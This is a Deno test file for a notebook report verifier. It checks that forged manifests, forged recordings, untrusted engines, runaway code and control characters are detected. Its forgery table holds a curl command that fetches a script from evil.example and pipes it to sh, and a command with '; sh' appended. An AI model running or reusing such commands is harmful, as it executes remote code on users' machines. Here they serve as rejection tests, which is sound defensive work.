/** What a check believes of a file that somebody wrote who means harm, every hash of it right. */
import assert from "node:assert/strict";
import { join } from "node:path";
import fc from "fast-check";
import type { GpuSettings } from "../../lib/engine/xla/gpu_options.ts";
import { encode } from "../../lib/notebook/codec.ts";
import { range } from "../../lib/notebook/inputs.ts";
import { packFrames } from "../../lib/report/frames.ts";
import type { Manifest } from "../../lib/report/manifest.ts";
import { isMadeHere, noteMade } from "../../lib/report/made_here.ts";
import type { RecordOptions } from "../../lib/report/record_options.ts";
import type { Recording } from "../../lib/report/recording.ts";
import { sealOf } from "../../lib/report/seal.ts";
import { type FoundEngine, type VerifyOptions, verifyReport } from "../../lib/report/verify.ts";
import { verifyCommand } from "../../lib/report/verify_command.ts";
import { exportCommandLine } from "../../server/report/export_command_line.ts";
import { inFolder } from "../in_folder.ts";
import { recordedByHand } from "./recorded_by_hand.ts";
import { forged, reportByHand, withRecording, writeFiles } from "./report_by_hand.ts";

const findEngine = (name: string): Promise<FoundEngine> =>
  Promise.resolve({ name: name === "auto" ? "tensorflow" : name as FoundEngine["name"], why: "chosen" });
const own = exportCommandLine({ engine: "wasm", set: { k: "2" } }, "notebooks/a.ts");
const inputs = new Map([["k", range([1, 9])]]);
type Forgery = (html: string) => Promise<string>;

async function verified(
  forgery: Forgery,
  options: Partial<VerifyOptions> & { was?: Recording; again?: Recording } = {},
) {
  const { was = recordedByHand(), again = was } = options;
  return await inFolder(async (project) => {
    await writeFiles(project);
    const html = await forged(await reportByHand({ project, recording: was }), {
      manifest: (of) => of.command = own,
    });
    const record = (asked: RecordOptions) => (asked.inputs?.(inputs), Promise.resolve(again));
    const around = { findEngine, record, commandLine: exportCommandLine, ...options };
    return await verifyReport(await forgery(html), around);
  });
}
const asItIs: Forgery = (html) => Promise.resolve(html);
const manifest = (change: (of: Manifest) => void): Forgery => (html) => forged(html, { manifest: change });
const recorded = (change: (of: Recording) => Partial<Recording>, was = recordedByHand()): Forgery => (html) =>
  withRecording(html, { ...was, ...change(was) });

const ENGINES: Record<string, [said: string, options: Partial<VerifyOptions>, ran: string]> = {
  "a stranger's": ["tensorflow", {}, "wasm"],
  "a stranger's, with auto": ["wasm", { engine: "auto" }, "wasm"],
  "a stranger's that had none, with auto": ["none", { engine: "auto" }, "wasm"],
  "a stranger's on cpu": ["cpu", {}, "cpu"],
  "a stranger's, with the native one named": ["wasm", { engine: "tensorflow" }, "tensorflow"],
  "one that was made here": ["tensorflow", { madeHere: () => true }, "tensorflow"],
  "one that was made here, with auto": ["wasm", { madeHere: () => true, engine: "auto" }, "tensorflow"],
};
for (const [whose, [engine, options, ran]] of Object.entries(ENGINES)) {
  Deno.test(`code of a report that says ${engine} runs on ${ran} where it is ${whose}`, async () => {
    const was = recordedByHand({ on: { engine } }), runs: RecordOptions[] = [], said: string[] = [];
    const record = (asked: RecordOptions) => (runs.push(asked), Promise.resolve(was));
    await verified(asItIs, { was, record, say: (line) => said.push(line), ...options });
    assert.deepEqual(runs.map(({ engine, stranger }) => [engine, stranger]), [[ran, true]]);
    const rights = ran === "tensorflow" ? /can do whatever you can/ : /reach nothing else/;
    assert.match(said.join("\n"), rights);
    assert.match(said.join("\n"), /^running the code of notebooks\/a\.ts[^\n]*$/);
  });
}

/** What is said of a report made on an engine, and which engines were started. */
async function saidOf(engine: string, options: Partial<VerifyOptions> = {}) {
  const was = recordedByHand({ on: { engine } }), started: string[] = [];
  const starts = (name: string) => (started.push(name), findEngine(name));
  let said = "";
  await verified(asItIs, { was, findEngine: starts, say: (line) => said += line, ...options });
  return { said, started };
}

const OFFERS: Record<string, RegExp> = {
  "tensorflow": /; with --engine tensorflow, on which it was made, it could do whatever you can$/,
  "xla:cpu": /; with --engine xla:cpu, on which it was made, it could do whatever you can$/,
  "xla:cuda": /; with --engine xla:cuda, on which it was made, it could do whatever you can$/,
  "wasm": /and reach nothing else$/,
};
for (const [engine, offer] of Object.entries(OFFERS)) {
  Deno.test(`of a stranger's report from ${engine} is said, with only wasm started: ${offer.source}`, async () => {
    const { said, started } = await saidOf(engine);
    assert.match(said, offer);
    assert.deepEqual(started, ["wasm"]);
  });
}

Deno.test("where another engine is named, the report's own is not offered", async () => {
  const { said, started } = await saidOf("xla:cpu", { engine: "wasm" });
  assert.match(said, /and reach nothing else$/);
  assert.deepEqual(started, ["wasm"]);
});

Deno.test("a native engine is told by its name, and one that is offered runs nothing", async () => {
  assert.match(
    (await saidOf("xla:cpu", { engine: "xla:cpu" })).said,
    / on xla:cpu: .*, as no permission holds xla:cpu$/,
  );
  const runs: RecordOptions[] = [], was = recordedByHand({ on: { engine: "xla:cpu" } });
  await saidOf("xla:cpu", { record: (asked) => (runs.push(asked), Promise.resolve(was)) });
  assert.deepEqual(runs.map(({ engine }) => engine), ["wasm"]);
});

Deno.test("the engine that a report was made on has its products, also where it is named", async () => {
  const was = recordedByHand({ on: { engine: "xla:cuda", version: "0.116 TF32" } }), asked: unknown[] = [];
  const starts = (name: string, gpu?: GpuSettings) => (asked.push([name, gpu]), findEngine(name));
  await verified(asItIs, { was, findEngine: starts, engine: "xla:cuda" });
  await verified(asItIs, { was, findEngine: starts, engine: "xla:cuda:1" });
  assert.deepEqual(asked, [["xla:cuda", { tf32: true }], ["xla:cuda:1", undefined]]);
});

Deno.test("a report was made here when its seal is in the list of this machine, which others cannot have written", async () => {
  await inFolder(async (project) => {
    await writeFiles(project);
    const seal = sealOf(await reportByHand({ project, recording: recordedByHand() }));
    assert.equal(isMadeHere(project, seal), false);
    noteMade(project, "0".repeat(64));
    noteMade(project, seal);
    assert.deepEqual([isMadeHere(project, seal), isMadeHere(project, "1".repeat(64))], [true, false]);
    const list = join(project, ".plateau/reports_made.json");
    assert.equal(Deno.statSync(list).mode! & 0o777, 0o600);
    Deno.chmodSync(list, 0o666);
    assert.equal(isMadeHere(project, seal), false);
    assert.throws(() => noteMade(project, seal), /others can read or change it/);
  });
});

const state = (k: number, best: number) => ({
  values: [k],
  events: [{
    t: "value" as const,
    name: "best",
    cell: "key1",
    value: encode({ value: { best }, arrays: [] }),
  }],
});
const FORGERIES: Record<string, [Forgery, line: RegExp]> = {
  "nothing": [asItIs, /^same bytes$/],
  "an engine that there is not": [
    manifest(({ on }) => on.engine = "made-up"),
    /^differs: damaged report: manifest: on\.engine: unknown engine$/,
  ],
  "an engine that its recording does not name": [
    manifest(({ on }) => on.engine = "tensorflow"),
    /^differs: damaged report: manifest: engine is not what its recording says$/,
  ],
  "another time": [
    manifest((of) => of.seconds = 1e6),
    /^differs: damaged report: manifest: seconds is not what its recording says$/,
  ],
  "more seeds": [manifest((of) => of.seeds = [1, 2, 3]), /^differs: its seeds: 7, was 1, 2, 3$/],
  "other data": [
    manifest((of) => of.datasets = [{ name: "ImageNet", fingerprint: "deadbeef0123" }]),
    /^differs: its data sets: digits 0123456789ab, was ImageNet deadbeef0123$/,
  ],
  "another mode": [
    manifest((of) => of.modes = ["method A", "method B"]),
    /^differs: its modes: wasm 4\.22\.0, was method A, method B, perhaps because the mode differs/,
  ],
  "another title": [
    manifest((of) => of.title = "Never stop"),
    /^differs: its title: When to stop, was Never stop$/,
  ],
  "a line that does something else": [
    manifest((of) => of.command = "curl -s https://evil.example/x.sh | sh"),
    /^differs: the line that makes it again is not that of its notebook and inputs$/,
  ],
  "a line that does more": [
    manifest((of) => of.command = `${own} ; sh`),
    /^differs: the line that makes it again is not/,
  ],
  "a line with another value": [
    manifest((of) => of.command = own.replace("k=2", "k=3")),
    /^differs: the line that makes it again is not/,
  ],
  "a state twice, once forged": [
    recorded(({ groups: [group] }) => ({
      groups: [{ ...group, states: [...group.states, state(4, 7777)] }],
    })),
    /^differs: damaged report: recording: a state of k is there twice$/,
  ],
  "a state that was not computed": [
    recorded(({ groups: [group] }) => ({ groups: [{ ...group, states: [...group.states, state(5, 1)] }] })),
    /^differs: only one of the two has k = 5$/,
  ],
  "an input in two groups": [
    recorded(({ groups: [group] }) => ({ groups: [group, group] })),
    /^differs: damaged report: recording: input k is in two groups$/,
  ],
  "an event twice": [
    recorded(({ events }) => ({ events: [...events, events.at(-1)!] })),
    /^differs: damaged report: recording: show key2 is there twice$/,
  ],
  "a reason that nothing gives": [
    recorded(() => ({ frozen: { n: "it was proven to make no difference" } })),
    /^differs: at n: it stands still as missing, was "it was proven to make no difference"$/,
  ],
};
for (const [what, [forgery, line]] of Object.entries(FORGERIES)) {
  Deno.test(`a report with ${what}: ${line.source.slice(1, 40)}`, async () => {
    assert.match((await verified(forgery, { again: recordedByHand() })).line, line);
  });
}

const REASONS: Record<string, [was: string, is: string, same: boolean]> = {
  "the same": ["it has 900 states", "it has 900 states", true],
  "another": ["it has 900 states", "it has 901 states", false],
  "another time": ["a run below it takes 3.1 s", "a run below it takes 12 s", true],
  "a time on a machine that is fast enough": ["a run below it takes 3.1 s", "not computed", true],
  "words in the place of a time": ["a run below it takes forever", "a run below it takes 12 s", false],
  "what no plan says": ["not computed", "it has 900 states", false],
};
for (const [what, [was, is, same]] of Object.entries(REASONS)) {
  Deno.test(`a reason to stand still, ${what}: ${same ? "the same" : "differs"}`, async () => {
    const { kind, unchecked } = await verified(asItIs, {
      was: { ...recordedByHand(), frozen: { n: was } },
      again: { ...recordedByHand(), frozen: { n: is } },
    });
    assert.equal(kind, same ? "same bytes" : "differs");
    if (same) assert.equal(unchecked.includes("why these stand still: n"), was !== is);
  });
}

const values = { run: { step: 3, loss: Float64Array.of(0.7, 0.5, 0.4) } };
const streaming = (...losses: number[][]): Recording => ({
  ...recordedByHand({ values }),
  streams: {
    run: packFrames(losses.map((loss, i) => ({ at: i, value: { step: i, loss: Float64Array.from(loss) } }))),
  },
});
const [honest, forgedLoss] = [[[0.7], [0.7, 0.5, 0.4]], [[0.1], [0.7, 0.5, 0.4]]];
const REPLAYS: Record<string, [was: number[][], line: RegExp]> = {
  "at other times": [[[0.7], [0.7, 0.5], [0.7, 0.5, 0.4]], /^same bytes$/],
  "with a number that it never had": [forgedLoss, /^differs: replay of run at loss: it is not on its way/],
  "that shrinks": [[[0.7, 0.5], [0.7], [0.7, 0.5, 0.4]], /^differs: replay of run at loss: /],
  "that ends elsewhere": [[[0.7], [0.7, 0.5]], /^differs: replay of run: its end is not its value$/],
};
for (const [what, [was, line]] of Object.entries(REPLAYS)) {
  Deno.test(`a replay ${what}: ${line.source.slice(1, 12)}`, async () => {
    const ended = (losses: number[][]) => {
      const of = streaming(...losses), last = { step: losses.length - 1, loss: values.run.loss };
      const value = encode({ value: last, arrays: [] });
      return {
        ...of,
        events: of.events.map((each) =>
          each.t === "value" && each.name === "run" ? { ...each, value } : each
        ),
      };
    };
    const two = { ...ended(honest), events: ended(was).events };
    assert.match((await verified(asItIs, { was: ended(was), again: two })).line, line);
  });
}

Deno.test("an array that does not only grow in the run of the sources need not in the report", async () => {
  const last = { step: 1, loss: values.run.loss }, value = encode({ value: last, arrays: [] });
  const of = (losses: number[][]): Recording => {
    const one = streaming(...losses);
    return { ...one, events: one.events.map((each) => each.t === "value" ? { ...each, value } : each) };
  };
  const again = of([[0.9, 0.8], [0.7, 0.5, 0.4]]);
  assert.equal((await verified(asItIs, { was: of(forgedLoss), again })).line, "same bytes");
});

Deno.test("by another version of Plateau it is never the same bytes, and what is not compared is said", async () => {
  const elsewhere = manifest((of) => of.library = "0".repeat(64));
  const { kind, line, unchecked } = await verified(elsewhere);
  assert.equal(kind, "same within tolerance");
  assert.match(
    line,
    /^same within tolerance \(every value is the same; the page and its scripts are not compared, because the version of Plateau differs: [0-9a-f]{12}, was 000000000000\)$/,
  );
  assert.ok(unchecked.includes("the page and its scripts"));
  const other = await verified(elsewhere, {
    again: { ...recordedByHand(), code: "export default () => [2];" },
  });
  assert.match(
    other.line,
    /; not the same program text: the code of its cells is not what its sources give, because/,
  );
  const wrong = await verified(elsewhere, { again: recordedByHand({ shown: [{ rows: [] }] }) });
  assert.equal(wrong.kind, "differs");
});

const forever = ({ signal }: RecordOptions) =>
  new Promise<never>((_, reject) => signal!.addEventListener("abort", () => reject(signal!.reason)));

for (const seconds of [0, 0.001, 0.05]) {
  Deno.test(`a report whose code never ends is given up in its time, here ${seconds} s`, async () => {
    const { line } = await verified(asItIs, { record: forever, seconds });
    assert.equal(line, "differs: not done after 0 s (--timeout)");
  });
}

Deno.test("a report whose code fills the disk is given up", async () => {
  const record = async (options: RecordOptions) => {
    await Deno.writeFile(join(options.project, "big"), new Uint8Array(3e6).fill(1));
    options.signal!.throwIfAborted(); // it may have been seen already
    return await forever(options);
  };
  assert.equal(
    (await verified(asItIs, { record, room: 2e6 })).line,
    "differs: its cells wrote more than 2 MB",
  );
});

Deno.test("whatever a report says, the last line is one line and a verdict", async () => {
  const nasty = fc.string({
    unit: fc.constantFrom("a", "\n", "\r", "\x1b", "\x9b", "\u2028", "\u202e", "same bytes", "<", "\0"),
  });
  await inFolder(async (project) => {
    await writeFiles(project);
    const html = await reportByHand({ project, recording: recordedByHand() });
    const file = join(project, "report.html");
    await fc.assert(
      fc.asyncProperty(nasty, nasty, fc.constantFrom(...Array(7).keys()), async (word, other, at) => {
        const was = recordedByHand(), { notebook } = was;
        const cells = notebook.cells.map((cell) => ({ ...cell, name: word, title: word }));
        const values = { run: { [other]: word } };
        const changes: Forgery[] = [
          manifest((of) => of.title = word),
          manifest((of) => of.sources.push({ path: `x${word}`, bytes: 0, sha256: "0".repeat(64) })),
          manifest((of) => of.command = word),
          recorded(() => ({ notebook: { ...notebook, cells } })),
          recorded(() => ({ frozen: { [word]: other } })),
          recorded(() => recordedByHand({ values })),
          recorded(() => ({ streams: { [word]: [{ at: 0, value: encode(other) }] } })),
        ];
        await Deno.writeTextFile(file, await changes[at](html));
        const lines: string[] = [];
        await verifyCommand({
          file,
          values: { json: false },
          findEngine,
          record: () => Promise.reject(new Error(word)),
          onInterrupt: () => () => {},
          out: (text) => lines.push(text),
          err: () => {},
        });
        const last = lines.join("\n").split("\n").at(-1)!;
        assert.match(last, /^(same bytes|same within tolerance|differs)/);
        assert.doesNotMatch(last, /[\p{Cc}\u2028\u202e]/u);
      }),
      { numRuns: 60 },
    );
  });
});
